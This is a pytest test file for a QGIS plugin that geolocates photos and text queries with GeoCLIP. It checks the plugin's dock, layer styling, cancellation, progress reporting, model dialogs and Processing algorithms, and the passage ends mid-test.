"""The QGIS plugin, headless: QGIS's own API with an offscreen platform drives the dock, the task and
the Processing algorithms, with the small generated CLIP and the real GeoCLIP heads."""

from __future__ import annotations

import os
import shutil
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from qgis_support import StandInInterface, qgis_app, wait_for

ROOT = Path(__file__).resolve().parents[1]

pytestmark = pytest.mark.qgis


@pytest.fixture(scope="module")
def plugin(tiny_clip, engine):
    qgis_app()
    from qgis.core import QgsSettings

    settings = QgsSettings()
    settings.remove("geoclip_qgis")
    settings.setValue("geoclip_qgis/clip", str(tiny_clip))
    settings.setValue("geoclip_qgis/precision", "bf16")  # rasters in bf16: see conftest.raster_engine
    settings.setValue("geoclip_qgis/device", "cpu")
    from geoclip_qgis.plugin import GeoCLIPPlugin

    iface = StandInInterface()
    loaded = GeoCLIPPlugin(iface)
    loaded.initGui()
    loaded.action.setChecked(True)  # opens the dock, as the toolbar button does
    yield loaded
    loaded.unload()


def run_dock(dock, paths, timeout=600, **options):
    from qgis.core import QgsProject

    if not options.get("keep_layers"):
        QgsProject.instance().clear()
    dock.clear_paths()
    dock.add_paths([str(p) for p in paths])
    dock.text_edit.setText(options.get("text", ""))
    dock.output.setFilePath(str(options["out"]))
    dock.rasters_check.setChecked(options.get("rasters", False))
    dock.world_per_photo.setChecked(options.get("world_per_photo", False))
    dock.basemap_check.setChecked(options.get("basemap", True))
    dock.fuse_check.setChecked(options.get("fuse", False))
    dock.confidence_check.setChecked(options.get("confidence", False))
    dock.top_k.setValue(options.get("top_k", 5))
    dock.area_combo.setCurrentIndex(dock.area_combo.findData(options.get("area", "world")))
    outcomes = []
    dock.runFinished.connect(outcomes.append)
    dock.run()
    if options.get("cancel_after"):
        wait_for(lambda: dock.progress.value() >= options["cancel_after"] or outcomes, timeout)
        dock.cancel()
    wait_for(lambda: outcomes, timeout)
    dock.runFinished.disconnect(outcomes.append)
    return outcomes[0]


def test_plugin_adds_its_button_menu_and_dock(plugin):
    iface = plugin.iface
    assert plugin.action in iface.toolbar_actions
    assert ("&GeoCLIP", plugin.action) in iface.menus
    assert plugin.dock in iface.docks and not plugin.dock.isHidden()  # the button opened it
    assert not plugin.action.icon().isNull()
    assert plugin.dock.run_button.isEnabled()


def test_run_makes_styled_layers_from_a_geopackage(plugin, photo_dir, samples, tmp_path):
    from qgis.core import (
        QgsProject,
        QgsRasterLayer,
        QgsRuleBasedLabeling,
        QgsRuleBasedRenderer,
        QgsSingleBandPseudoColorRenderer,
    )

    dock = plugin.dock
    (photo_dir / "broken.jpg").write_text("not a photo")
    reason = "not an image Pillow can read (unknown or damaged format)"
    result = run_dock(dock, [photo_dir, samples / "gps" / "DSCN0012.jpg"], out=tmp_path / "run.gpkg", rasters=True)
    assert not result.error and not result.cancelled
    assert (tmp_path / "run.gpkg").is_file()
    points = dock.last_layers["points"]
    assert points.isValid() and points.crs().authid() == "EPSG:4326"
    assert points.featureCount() == 5 * 5
    names = points.fields().names()
    for field in ("photo", "rank", "lat", "lon", "probability", "exif_lat", "exif_lon", "error_km", "model", "run_at"):
        assert field in names, field
    renderer = points.renderer()
    assert isinstance(renderer, QgsRuleBasedRenderer)
    assert sorted(rule.filterExpression() for rule in renderer.rootRule().children()) == [
        '"rank" = 1',
        '"rank" > 1',
    ]  # no photo here says where the camera faced: no camera-direction arrows, nor their legend entry
    assert points.labelsEnabled() and "<img" in points.mapTipTemplate()
    assert [a.name() for a in points.actions().actions()] == ["Open photo"]
    top = [f for f in points.getFeatures() if f["rank"] == 1]
    assert len(top) == 5 and all(f.geometry().asPoint().y() == pytest.approx(f["lat"]) for f in top)
    # labels: the photo's name on its top-1 answer, small rank labels below it in priority
    labeling = points.labeling()
    assert isinstance(labeling, QgsRuleBasedLabeling)
    rules = {rule.filterExpression(): rule.settings() for rule in labeling.rootRule().children()}
    assert "base_file_name" in rules['"rank" = 1'].fieldName and rules['"rank" = 1'].priority == 10
    assert rules['"rank" IN (2, 3)'].priority < rules['"rank" = 1'].priority
    # the two camera photos carry EXIF GPS: a truth line each, labelled with name and km, a dot at the EXIF end
    lines = dock.last_layers["lines"]
    assert lines.featureCount() == 2
    assert "km" in lines.labeling().settings().fieldName and "base_file_name" in lines.labeling().settings().fieldName
    assert lines.renderer().symbol().symbolLayerCount() == 2  # the dashed line and the EXIF position's dot
    rasters = dock.last_layers["rasters"]
    combined = [r for r in rasters if r.name() == "all_answers_world"][0]
    assert isinstance(combined, QgsRasterLayer) and combined.crs().authid() == "EPSG:4326"
    assert combined.extent().toString(0) == "-180,-90 : 180,90"
    assert isinstance(combined.renderer(), QgsSingleBandPseudoColorRenderer)
    assert 5 <= len([r for r in rasters if "_local" in r.name()]) <= 10  # one or two per photo
    # failures are listed with their whole reason, never dropped; the errors table is on the map
    assert not dock.failures_box.isHidden() and dock.failures.rowCount() == 1
    assert dock.failures.item(0, 0).text() == "broken.jpg"
    assert dock.failures.item(0, 0).toolTip().endswith("photos/broken.jpg</span>")  # shown as text
    assert dock.failures.item(0, 1).text() == reason
    errors = dock.last_layers["errors"]
    assert errors is not None and errors.featureCount() == 1
    assert dock.tabs.currentIndex() == 2 and "5 of 6 answered" in dock.summary.text()
    assert "loading the model and caches" in dock.summary.text()  # load time apart from time per answer
    # the accuracy table: one row per distance, readable at any width
    assert not dock.accuracy_box.isHidden()
    rows = [(dock.accuracy.item(r, 0).text(), dock.accuracy.item(r, 1).text()) for r in range(dock.accuracy.rowCount())]
    assert rows[0][0] == "within 1 km" and rows[4][0] == "within 2500 km" and rows[4][1].endswith(" %")
    assert rows[5][0] == "median error" and rows[5][1].endswith(" km")
    # the layer tree: one group named after what was run, rasters per photo folded away
    root = QgsProject.instance().layerTreeRoot()
    group = root.children()[0]
    assert group.name() == "photos and 1 more — 6 photos"
    assert [child.name() for child in group.children()][:5] == [
        "GeoCLIP answers",
        "Places and their radius",
        "EXIF truth → top-1",
        "Photos not answered",
        "all_answers_world",
    ]
    per_photo = group.findGroup("Rasters per photo")
    assert per_photo is not None and not per_photo.isExpanded()
    assert sorted(g.name() for g in per_photo.children()) == ["DSCN0010", "DSCN0012", "astronaut", "camera", "kauai"]
    assert all(not g.isExpanded() for g in per_photo.children())
    assert "GeoCLIP run 20" in points.abstract() and str(tmp_path / "run.gpkg") in points.abstract()
    # the map was zoomed to the answers, with room around them
    extent = plugin.iface.canvas.extent()
    assert extent.contains(points.extent())


def test_long_reasons_wrap_whole_when_the_results_tab_first_shows(plugin):
    """The reason column gets its width only when the Results tab shows: the rows must grow then, so
    a long reason is read whole, not cut at the first line."""
    from qgis.PyQt.QtCore import QRect, Qt
    from qgis.PyQt.QtWidgets import QApplication

    dock = plugin.dock
    dock.tabs.setCurrentIndex(0)
    dock.resize(360, 700)
    dock.show()
    reason = "damaged image data: the JPEG stream ends before the image does (truncated file) " * 2
    dock.results_tab.show_failures([("/photos/IMG_0007.jpg", reason)])
    dock.tabs.setCurrentIndex(2)
    for _ in range(5):
        QApplication.processEvents()
    table = dock.failures
    width = table.columnWidth(1)
    needed = table.fontMetrics().boundingRect(QRect(0, 0, width - 8, 10000), Qt.TextFlag.TextWordWrap, reason)
    assert width > 50 and needed.height() > 2 * table.fontMetrics().height()  # it does need several lines
    assert table.rowHeight(0) >= needed.height()
    assert table.height() >= table.rowHeight(0)  # and the table shows the whole row
    dock.results_tab.show_failures([])


def test_identify_shows_readable_numbers(plugin, photo_dir, tmp_path):
    from qgis.core import QgsRangeFieldFormatter
    from qgis.PyQt.QtCore import QLocale

    result = run_dock(plugin.dock, [photo_dir / "DSCN0010.jpg"], out=tmp_path / "fmt.gpkg")
    assert not result.error
    points = plugin.dock.last_layers["points"]
    feature = next(points.getFeatures())
    formatter = QgsRangeFieldFormatter()

    def shown(name):
        index = points.fields().indexOf(name)
        setup = points.editorWidgetSetup(index)
        return setup.type(), formatter.representValue(points, index, setup.config(), None, feature[name])

    locale = QLocale()
    assert shown("lat")[1] == locale.toString(feature["lat"], "f", 5)
    assert shown("lon")[1] == locale.toString(feature["lon"], "f", 5)
    assert shown("error_km")[1] == locale.toString(feature["error_km"], "f", 1)
    assert points.attributeDisplayName(points.fields().indexOf("error_km")) == "distance to EXIF position (km)"
    assert shown("probability_pct")[1] == locale.toString(100 * feature["probability"], "f", 3)
    assert points.attributeDisplayName(points.fields().indexOf("probability_pct")) == "probability (%)"
    assert shown("probability")[0] == "Hidden"  # shown as a percentage instead


def test_top1_star_is_drawn_above_other_photos_dots(plugin, tmp_path):
    """Sixteen answers on one spot (one photo's top-1, fifteen other ranks): the red star shows."""
    from qgis.core import (
        QgsFeature,
        QgsGeometry,
        QgsMapRendererCustomPainterJob,
        QgsMapSettings,
        QgsPointXY,
        QgsRectangle,
        QgsVectorLayer,
    )
    from qgis.PyQt.QtCore import QSize
    from qgis.PyQt.QtGui import QColor, QImage, QPainter

    from geoclip_qgis.map.styles import style_points

    layer = QgsVectorLayer(
        "Point?crs=EPSG:4326&field=photo:string&field=rank:integer&field=probability:double", "p", "memory"
    )
    features = []
    for index in range(16):  # the top-1 first: without a rendering order it would be drawn first, then covered
        feature = QgsFeature(layer.fields())
        feature.setAttributes([f"/p/photo_{index}.jpg", 1 if index == 0 else 2 + index % 4, 0.2])
        feature.setGeometry(QgsGeometry.fromPointXY(QgsPointXY(10, 45)))
        features.append(feature)
    layer.dataProvider().addFeatures(features)
    style_points(layer)
    layer.setLabelsEnabled(False)
    settings = QgsMapSettings()
    settings.setLayers([layer])
    settings.setExtent(QgsRectangle(9, 44, 11, 46))
    settings.setOutputSize(QSize(200, 200))
    settings.setDestinationCrs(layer.crs())
    image = QImage(QSize(200, 200), QImage.Format.Format_ARGB32)
    image.fill(QColor("white"))
    painter = QPainter(image)
    job = QgsMapRendererCustomPainterJob(settings, painter)
    job.renderSynchronously()
    painter.end()
    centre = QColor(image.pixel(100, 100))
    assert centre.red() > 180 and centre.green() < 60 and centre.blue() < 60, centre.name()  # the star's red


def test_layer_tree_one_group_per_run_earlier_runs_folded_same_output_reused(plugin, photo_dir, tmp_path):
    from qgis.core import QgsProject

    dock = plugin.dock
    first = run_dock(dock, [photo_dir / "kauai.png"], out=tmp_path / "a.gpkg")
    second = run_dock(dock, [photo_dir], out=tmp_path / "b.gpkg", keep_layers=True)
    assert not first.error and not second.error
    root = QgsProject.instance().layerTreeRoot()
    runs = [node for node in root.children() if node.customProperty("geoclip/run")]
    assert [group.name() for group in runs] == ["photos — 4 photos", "kauai.png"]
    assert runs[0].itemVisibilityChecked() and runs[0].isExpanded()
    assert not runs[1].itemVisibilityChecked() and not runs[1].isExpanded()  # the earlier run, out of the way
    # the same GeoPackage again: its group is refreshed, not doubled
    third = run_dock(dock, [photo_dir], out=tmp_path / "b.gpkg", keep_layers=True)
    assert not third.error and third.outcome.summary.skipped_count == 4
    runs = [node for node in root.children() if node.customProperty("geoclip/run")]
    assert [group.name() for group in runs] == ["photos — 4 photos", "kauai.png"]
    assert len(runs[0].findLayers()) == 3  # answers, their places' radii and truth lines, once
    layers = [layer.name() for layer in QgsProject.instance().mapLayers().values()]
    assert layers.count("GeoCLIP answers") == 2
    # the project had no map of its own: QGIS's offline world map went under the answers, once
    assert (
        layers.count("World (QGIS's offline map)") == 1 and root.children()[-1].name() == "World (QGIS's offline map)"
    )


MEDIUM = dict(  # big enough that 20 photos take seconds on a CPU, so the check means something
    vision=dict(
        hidden_size=512,
        intermediate_size=2048,
        num_hidden_layers=12,
        num_attention_heads=8,
        patch_size=16,
        image_size=224,
    ),
    text=dict(
        hidden_size=64, intermediate_size=128, num_hidden_layers=1, num_attention_heads=2, max_position_embeddings=77
    ),
)


def test_event_loop_keeps_turning_during_a_run(plugin, skimage_data, tmp_path):
    """A timer on the main thread ticks every 50 ms through a 20-photo run (model load included);
    no gap over 0.5 s."""
    from clip_factory import make_clip_checkpoint
    from qgis.core import QgsSettings
    from qgis.PyQt.QtCore import QTimer
    from test_batch import variants

    medium = make_clip_checkpoint(tmp_path / "medium-clip", size=MEDIUM, patch_gain=1.0)
    settings = QgsSettings()
    previous = settings.value("geoclip_qgis/clip")
    settings.setValue("geoclip_qgis/clip", str(medium))  # a new model: the run loads it in the task
    photos = variants([skimage_data / "astronaut.png", skimage_data / "coffee.png"], tmp_path / "twenty", 20)
    ticks = []
    timer = QTimer()
    timer.setInterval(50)
    timer.timeout.connect(lambda: ticks.append(time.monotonic()))
    timer.start()
    try:
        result = run_dock(plugin.dock, photos, out=tmp_path / "twenty.gpkg")
    finally:
        timer.stop()
        settings.setValue("geoclip_qgis/clip", previous)
    assert result.outcome.summary.answered == 20
    gaps = [b - a for a, b in zip(ticks, ticks[1:])]
    assert len(ticks) > 5 and max(gaps) <= 0.5, f"longest gap {max(gaps):.2f} s"


def test_cancel_stops_within_a_batch_and_keeps_answers(plugin, skimage_data, tmp_path):
    from test_batch import variants

    dock, bar = plugin.dock, plugin.iface.bar
    photos = variants([skimage_data / "chelsea.png", skimage_data / "rocket.jpg"], tmp_path / "many", 120)
    result = run_dock(dock, photos, out=tmp_path / "cancel.gpkg", cancel_after=5)
    assert result.cancelled and not result.error
    with sqlite3.connect(tmp_path / "cancel.gpkg") as db:
        per_photo = db.execute("SELECT photo, COUNT(*) FROM predictions GROUP BY photo").fetchall()
    assert 0 < len(per_photo) < 120
    assert all(count == 5 for _, count in per_photo)  # every written photo is whole
    kept = result.outcome.summary.answered
    assert len(per_photo) == kept
    # what was kept, said as such: not a full bar, not "Task complete"
    assert dock.status.text().startswith(f"Cancelled — {kept} of 120 kept")
    assert bar.currentItem().text() == f"Cancelled — {kept} of 120 kept in cancel.gpkg"
    assert dock.progress.value() == 0 and not dock.progress.isTextVisible()  # no stale percentage
    assert result.description == f"GeoCLIP: cancelled — {kept} of 120 kept"
    assert dock.summary.text().count("answered") and f"{kept} of 120 answered" in dock.summary.text()
    # Run again continues the cancelled GeoPackage (its photos are skipped) while the inputs stay the same.
    assert dock.output.filePath() == str(tmp_path / "cancel.gpkg") and "Press Run to continue" in dock.status.text()
    assert "skips photos it already answers" in dock.output_hint.text()
    dock.add_paths([str(skimage_data / "astronaut.png")])  # other inputs: a new GeoPackage again
    assert dock.output.filePath() == ""


def test_qgis_task_notice_gives_way_to_the_docks(plugin, photo_dir, tmp_path):
    """QGIS announces a long task's end ("Task complete: <its description>") after the dock has said
    more: that notice is taken off the message bar."""
    from qgis.core import Qgis

    bar = plugin.iface.bar
    result = run_dock(plugin.dock, [photo_dir / "kauai.png"], out=tmp_path / "n.gpkg")
    ours = bar.currentItem()
    bar.pushMessage("Task complete", result.description, Qgis.MessageLevel.Info, 0)  # what QGIS does next
    bar.pushMessage("Other plugin", "something else", Qgis.MessageLevel.Info, 0)
    wait_for(lambda: all(item.text() != result.description for item in bar.items()), 10)
    texts = [item.text() for item in bar.items()]
    assert ours.text() in texts and "something else" in texts


def test_quitting_qgis_mid_run_asks_once_then_quits(plugin, skimage_data, tmp_path):
    """QGIS asks once whether to cancel the running tasks; on Yes the run stops (answers kept) and the
    dock quits QGIS itself instead of waiting for a second Quit."""
    from qgis.PyQt.QtWidgets import QMessageBox
    from test_batch import variants

    dock, iface = plugin.dock, plugin.iface
    photos = variants([skimage_data / "chelsea.png", skimage_data / "rocket.jpg"], tmp_path / "q", 120)
    dock.clear_paths()
    dock.add_paths([str(p) for p in photos])
    dock.output.setFilePath(str(tmp_path / "quit.gpkg"))
    outcomes = []
    dock.runFinished.connect(outcomes.append)
    exits = len(iface.exits)
    dock.run()
    wait_for(lambda: dock.progress.value() >= 3, 300)
    # QGIS's own question, as QgisApp::fileExit asks it, naming the running tasks
    box = QMessageBox(
        QMessageBox.Icon.Question,
        "Active Tasks",
        f"The following tasks are currently running in the background:\n\n • {dock.task.description()}\n\n"
        "Do you want to try canceling these active tasks?",
        QMessageBox.StandardButton.Yes | QMessageBox.StandardButton.No,
        iface.window,
    )
    box.show()
    box.button(QMessageBox.StandardButton.Yes).click()
    dock.task.cancel()  # what QGIS does on Yes (QgsTaskManager::cancelAll)
    wait_for(lambda: outcomes, 300)
    dock.runFinished.disconnect(outcomes.append)
    wait_for(lambda: len(iface.exits) > exits, 10)  # QGIS asked to quit again, by the dock
    assert outcomes[0].cancelled and 0 < outcomes[0].outcome.summary.answered < 120
    assert dock.last_layers.get("points") is None or "quit.gpkg" not in dock.last_layers["points"].source()
    dock.quitting = False


def test_progress_shows_each_stage_with_its_share_and_time_left(plugin):
    from geoclip_qgis.backend.progress import Progress

    dock = plugin.dock
    dock._on_progress(Progress("Loading the CLIP vision tower"))
    assert dock.progress.maximum() == 0  # a busy bar: no count for this step
    assert dock.status.text() == "Loading the CLIP vision tower"
    dock._on_progress(Progress("Preparing probability rasters (first use only)", 430, 1000, eta_s=65, unit="cells"))
    assert dock.progress.maximum() == 100 and dock.progress.value() == 43
    assert (
        dock.status.text()
        == "Preparing probability rasters (first use only): 430 of 1000 cells (43 %), about 1 min left"
    )
    dock._on_progress(Progress("Answering photos", 4, 40, eta_s=30, unit="photos"))
    assert dock.progress.value() == 10
    assert dock.status.text() == "Answering photos: 4 of 40 photos (10 %), about 30 s left"


def test_a_run_reports_every_stage(plugin, photo_dir, tmp_path):
    from geoclip_qgis.core.session import drop_engines

    drop_engines()  # a fresh engine: the model loads in this run
    seen = []
    dock = plugin.dock
    original = dock._on_progress
    dock._on_progress = lambda event: (seen.append(event), original(event))
    try:
        result = run_dock(dock, [photo_dir], out=tmp_path / "stages.gpkg", rasters=True)
    finally:
        del dock._on_progress
    assert not result.error
    stages = [event.stage for event in seen]
    assert stages[0] == "Loading the CLIP vision tower" and "Loading the GPS gallery" in stages
    assert stages.index("Answering photos") > stages.index("Loading the GPS gallery")
    answering = [event for event in seen if event.stage == "Answering photos"]
    assert answering[-1].done == answering[-1].total == 4


def test_text_query_and_map_extent_area(plugin, tmp_path):
    from qgis.core import (
        QgsCoordinateReferenceSystem,
        QgsExpression,
        QgsExpressionContext,
        QgsExpressionContextUtils,
        QgsProject,
        QgsRectangle,
    )

    dock = plugin.dock
    plugin.iface.canvas.setDestinationCrs(QgsCoordinateReferenceSystem("EPSG:4326"))
    plugin.iface.canvas.setExtent(QgsRectangle(-10, 35, 30, 60))
    result = run_dock(
        dock, [], out=tmp_path / "text.gpkg", text="a harbour with fishing boats", area="extent", rasters=True
    )
    assert not result.error
    points = dock.last_layers["points"]
    features = list(points.getFeatures())
    assert len(features) == 5 and features[0]["photo"] == "text: a harbour with fishing boats"
    west, south, east, north = (float(v) for v in features[0]["area"].split(" ")[-1].split(","))
    for feature in features:
        assert feature["area"].startswith("map extent")
        assert west <= feature["lon"] <= east and south <= feature["lat"] <= north
    assert west <= -9 and east >= 29  # the canvas extent (it may be wider: the canvas keeps its aspect)
    # named after the query, raster too; no broken photo preview in its map tip
    assert QgsProject.instance().layerTreeRoot().children()[0].name() == "“a harbour with fishing boats”"
    assert [r.name() for r in dock.last_layers["rasters"] if "_world" in r.name()] == [
        "a_harbour_with_fishing_boats_world"
    ]
    context = QgsExpressionContext(QgsExpressionContextUtils.globalProjectLayerScopes(points))
    context.setFeature(features[0])
    tip = QgsExpression.replaceExpressionText(points.mapTipTemplate(), context)
    assert "“a harbour with fishing boats”" in tip and "<img" not in tip
    assert "per photo" not in dock.summary.text()


def test_missing_dependencies_disable_run_with_an_explanation(plugin, monkeypatch):
    from geoclip_qgis.core import deps
    from geoclip_qgis.ui.dock import GeoCLIPDock

    monkeypatch.setattr(deps, "missing", lambda: ["torch", "transformers"])
    dock = GeoCLIPDock(plugin.iface)
    assert not dock.run_button.isEnabled()
    text = dock.status.text()
    assert "torch, transformers" in text and "pip install --target" in text and '"torch>=2.2"' in text


def test_processing_algorithms(plugin, samples, photo_dir, tmp_path):
    import processing
    from qgis.core import QgsApplication

    ids = {a.id() for a in QgsApplication.processingRegistry().providerById("geoclip").algorithms()}
    assert ids == {
        "geoclip:geolocate_photos",
        "geoclip:geolocate_text",
        "geoclip:evaluate_photos",
        "geoclip:finetune_heads",
        "geoclip:location_embeddings",
        "geoclip:embedding_map",
        "geoclip:similar_places",
        "geoclip:probability_by_region",
        "geoclip:how_likely_here",
    }
    result = processing.run(
        "geoclip:geolocate_photos", {"FOLDER": str(photo_dir), "TOP_K": 2, "OUTPUT": str(tmp_path / "alg.gpkg")}
    )
    assert result["ANSWERED"] == 4 and result["FAILED"] == 0
    with sqlite3.connect(tmp_path / "alg.gpkg") as db:
        assert db.execute("SELECT COUNT(*) FROM predictions").fetchone()[0] == 8
    evaluated = processing.run(
        "geoclip:evaluate_photos", {"FOLDER": str(samples / "gps"), "OUTPUT": str(tmp_path / "eval.gpkg")}
    )
    assert evaluated["PHOTOS"] == 9 and evaluated["MEDIAN_KM"] > 0
    assert evaluated["ACC_1KM"] <= evaluated["ACC_25KM"] <= evaluated["ACC_2500KM"]
    assert 0 <= evaluated["ACC_COUNTRY"] <= 100
    text = processing.run(
        "geoclip:geolocate_text", {"TEXT": "snowy mountain village", "TOP_K": 3, "OUTPUT": str(tmp_path / "text.gpkg")}
    )
    assert text["ANSWERED"] == 1


def test_processing_places_its_layers_like_the_dock_and_zooms(plugin, photo_dir, monkeypatch, tmp_path):
    """Geolocate photos from the toolbox: rasters and truth lines loaded, in a group named after the run
    (not inside whatever group was selected), earlier runs folded, the map zoomed to the answers."""
    import processing
    import qgis.utils
    from qgis.core import QgsLayerTreeRegistryBridge, QgsProject, QgsRectangle

    project = QgsProject.instance()
    project.clear()
    old = project.layerTreeRoot().addGroup("an old group")
    old.setItemVisibilityChecked(False)
    project.layerTreeRegistryBridge().setLayerInsertionPoint(QgsLayerTreeRegistryBridge.InsertionPoint(old, 0))
    monkeypatch.setattr(qgis.utils, "iface", plugin.iface)
    plugin.iface.canvas.setExtent(QgsRectangle(100, -10, 101, -9))
    try:
        outputs = processing.runAndLoadResults(
            "geoclip:geolocate_photos",
            {"FOLDER": str(photo_dir), "TOP_K": 3, "RASTERS": True, "DEVICE": 1, "OUTPUT": str(tmp_path / "p.gpkg")},
        )
    finally:  # the bridge would keep pointing into this project's tree after the next test clears it
        project.layerTreeRegistryBridge().setLayerInsertionPoint(
            QgsLayerTreeRegistryBridge.InsertionPoint(project.layerTreeRoot(), 0)
        )
    root = project.layerTreeRoot()
    group = root.children()[0]
    assert group.name() == "photos — 4 photos" and group.customProperty("geoclip/run")
    assert old.children() == []  # nothing landed in the selected group
    names = [child.name() for child in group.children()]
    assert names[:4] == ["GeoCLIP answers", "Places and their radius", "EXIF truth → top-1", "all_answers_world"], names
    assert group.findGroup("Rasters per photo") is not None
    points = project.mapLayer(outputs["POINTS"])
    assert points.renderer().type() == "RuleRenderer" and points.labelsEnabled()
    assert plugin.iface.canvas.extent().contains(points.extent())  # zoomed to the answers
    assert len(outputs["RASTER_LAYERS"]) >= 5


def test_qgis_process_runs_headless(tiny_clip, engine, photo_dir, tmp_path):
    binary = shutil.which("qgis_process.bin") or "/usr/bin/qgis_process.bin"
    if not Path(binary).exists():
        pytest.skip("qgis_process is not installed")
    sys.path.insert(0, str(ROOT / "tools"))
    from deploy_plugin import deploy

    deploy(tmp_path / "config" / "profiles")
    site = next(p for p in sys.path if p.endswith("site-packages") and ".venv" in p)
    env = {
        **os.environ,
        "QT_QPA_PLATFORM": "offscreen",
        "QGIS_CUSTOM_CONFIG_PATH": str(tmp_path / "config"),
        "PYTHONPATH": site,
        "GEOCLIP_CLIP": str(tiny_clip),
    }
    out = subprocess.run(
        [
            binary,
            "run",
            "geoclip:geolocate_photos",
            f"--FOLDER={photo_dir}",
            "--TOP_K=2",
            f"--OUTPUT={tmp_path / 'qp.gpkg'}",
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=600,
    )
    assert out.returncode == 0, out.stdout[-2000:] + out.stderr[-2000:]
    assert "ANSWERED:\t4" in out.stdout
    with sqlite3.connect(tmp_path / "qp.gpkg") as db:
        assert db.execute("SELECT COUNT(DISTINCT photo) FROM predictions").fetchone()[0] == 4


def test_processing_finetune_writes_a_heads_folder(plugin, skimage_data, tmp_path):
    import csv

    import processing
    from test_batch import variants

    photos = variants([skimage_data / "astronaut.png", skimage_data / "rocket.jpg"], tmp_path / "p", 12)
    table = tmp_path / "train.csv"
    with open(table, "w", newline="") as handle:
        rows = csv.writer(handle)
        rows.writerow(["photo", "lat", "lon"])
        rows.writerows([str(p), 40 + i * 0.2, -3 + i * 0.2] for i, p in enumerate(photos))
    result = processing.run(
        "geoclip:finetune_heads",
        {"CSV": str(table), "EPOCHS": 1, "EXTEND_GALLERY": True, "OUTPUT": str(tmp_path / "heads")},
    )
    from geoclip_qgis.backend.store.weights import heads_problem

    assert heads_problem(tmp_path / "heads") is None
    assert (tmp_path / "heads" / "manifest.json").is_file()
    assert 0 <= result["ACC_25KM_AFTER"] <= 100


def test_models_dialog_shows_weight_files_what_runs_and_what_the_checkpoint_is(plugin, tiny_clip):
    from qgis.PyQt.QtWidgets import QLabel

    from geoclip_qgis.install.install_dialog import InstallDialog
    from geoclip_qgis.ui.models_dialog import ModelsDialog

    dialog = ModelsDialog(plugin.dock)
    wait_for(lambda: dialog.checksums_done, 120)
    text = dialog.report.toPlainText()
    assert "GeoCLIP heads\nFound in the installed geoclip package" in text
    assert "CLIP backbone\nFound in the CLIP folder chosen in Models…" in text and str(tiny_clip) in text
    assert "--clip" not in text and "passed over" not in text and "Looked in" not in text
    # weight files only, each with size and checksum
    for name in ("weights/image_encoder_mlp_weights.pth", "weights/location_encoder_weights.pth"):
        assert name in text
    assert "weights/logit_scale_weights.pth" in text and "gps_gallery/coordinates_100K.csv" in text
    assert ".py" not in text.replace(".pth", "") and "config.json" not in text
    assert "computing…" not in text
    from geoclip_qgis.backend.store.weights import sha256_file

    assert sha256_file(tiny_clip / "model.safetensors")[:16] in text
    # what runs, and that this small checkpoint is not what GeoCLIP was trained on
    assert "Answer photos\n✔ ready" in text and "Text queries\n✔ ready" in text
    assert "not ViT-L/14 but a CLIP vision transformer with 2 layers, 64 wide, patch 32" in text
    assert dialog.fix_box.isVisibleTo(dialog) and "Import folder…" in dialog.fix_text.text()
    assert "torch " in text and "transformers " in text
    install = InstallDialog(plugin.dock)
    assert install.cpu.isChecked()  # no NVIDIA driver on this machine
    assert "geoclip_qgis/python" in install.findChildren(QLabel)[0].text()


def test_decoding_threads_are_a_setting_the_engine_gets(plugin, tiny_clip):
    from dataclasses import replace

    from geoclip_qgis.core.session import drop_engines, get_engine, load_settings, save_settings
    from geoclip_qgis.ui.models_dialog import ModelsDialog

    saved = load_settings()
    try:
        dialog = ModelsDialog(plugin.dock)
        assert dialog.decode_workers.value() == 0 and dialog.decode_workers.text() == "Automatic"
        dialog.decode_workers.setValue(3)
        dialog.save()
        assert load_settings().decode_workers == 3
        assert get_engine(load_settings()).decode_workers == 3
        assert get_engine(replace(load_settings(), decode_workers=0)).decode_workers is None  # chosen by the engine
    finally:
        save_settings(saved)
        drop_engines()


def test_a_checkpoint_without_tokenizer_runs_photos_not_text(plugin, tmp_path):
    from clip_factory import make_clip_checkpoint
    from qgis.core import QgsSettings

    from geoclip_qgis.ui.dock import GeoCLIPDock
    from geoclip_qgis.ui.models_dialog import ModelsDialog

    no_text = make_clip_checkpoint(tmp_path / "vision-only", with_text=False)
    settings = QgsSettings()
    previous = settings.value("geoclip_qgis/clip")
    settings.setValue("geoclip_qgis/clip", str(no_text))
    try:
        dock = GeoCLIPDock(plugin.iface)
        dock.add_paths([str(tmp_path)])
        assert dock.run_button.isEnabled()  # photos can run
        dock.text_edit.setText("a snowy pass")
        assert not dock.run_button.isEnabled()
        assert "cannot answer text queries" in dock.run_button.toolTip()
        text = ModelsDialog(dock).report.toPlainText()
        assert "Text queries\n✘ not yet" in text and "Answer photos\n✔ ready" in text
        assert "lacks its tokenizer (vocab.json and merges.txt): text queries cannot run" in text
    finally:
        settings.setValue("geoclip_qgis/clip", previous)


def test_before_any_backbone_the_dock_says_so_and_run_waits(plugin, monkeypatch, tmp_path):
    from qgis.core import QgsSettings

    from geoclip_qgis.backend.model.model_state import ProblemCode
    from geoclip_qgis.ui.dock import GeoCLIPDock
    from geoclip_qgis.ui.models_dialog import ModelsDialog

    settings = QgsSettings()
    previous = settings.value("geoclip_qgis/clip")
    settings.setValue("geoclip_qgis/clip", "")  # nothing chosen, nothing in the models folder or HF cache
    opened = []
    monkeypatch.setattr(ModelsDialog, "exec", lambda self: opened.append(self) or 0)
    try:
        dock = GeoCLIPDock(plugin.iface)
        assert not dock.run_button.isEnabled()
        assert "CLIP backbone is missing" in dock.model_label.text() and dock.models_button.text() == "Fix…"
        assert "Run is off: the CLIP backbone is missing" in dock.run_button.toolTip()
        dock.models_button.click()
        dialog = opened[0]
        assert dialog.focus_code is ProblemCode.BACKBONE_MISSING and dialog.fix_box.isVisibleTo(dialog)
        assert dialog.fix_download.isVisibleTo(dialog)
        fix = dialog.fix_text.text()
        assert "Import folder…" in fix and "Download backbone" in fix
        for words in ("--clip", "geoclip-qgis ", "pass "):
            assert words not in fix and words not in dialog.report.toPlainText()
        # once a backbone is chosen in the dialog, the dock is ready
        settings.setValue("geoclip_qgis/clip", previous)
        dock.refresh_model_state()
        assert dock.run_button.isEnabled()
    finally:
        settings.setValue("geoclip_qgis/clip", previous)


def test_a_failed_run_gives_a_short_notice_with_details_cleared_by_the_next_success(plugin, photo_dir, tmp_path):
    """The CLIP folder went away between the check and the run (a USB stick pulled out)."""
    from qgis.core import QgsApplication, QgsSettings
    from qgis.PyQt.QtWidgets import QPushButton

    bar, dock = plugin.iface.bar, plugin.dock
    logged = []
    QgsApplication.messageLog().messageReceived.connect(lambda message, tag, level: logged.append(message))
    settings = QgsSettings()
    previous = settings.value("geoclip_qgis/clip")
